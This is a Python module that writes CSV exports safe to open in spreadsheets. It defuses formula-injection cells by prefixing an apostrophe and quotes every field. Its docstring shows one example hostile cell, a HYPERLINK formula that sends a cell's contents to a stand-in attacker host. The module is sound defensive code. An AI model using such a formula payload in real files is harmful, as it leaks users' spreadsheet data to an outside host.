"""CSV that is safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs skip
before looking) is read by Excel, LibreOffice and Google Sheets as a formula: a stranger's name such
as `=HYPERLINK("https://evil.example/?"&A1, "click")` would run on the user's machine. Such cells get
a leading `'`, which spreadsheets show as text. Every field is quoted; the file is UTF-8 with a BOM
(so Excel does not read it as cp1252) and CRLF line ends (RFC 4180).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from netinbox.text import clean

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """One cell as safe text: lists joined with '; ', None as '', formulas defused."""
    if value is None:
        text = ""
    elif isinstance(value, bool):
        text = "yes" if value else "no"
    elif isinstance(value, list | tuple):
        text = "; ".join(clean(v) for v in value)
    else:
        text = clean(value)
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


def to_csv_bytes(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise(c) for c in columns])
    for row in rows:
        writer.writerow([neutralise(row.get(column)) for column in columns])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")
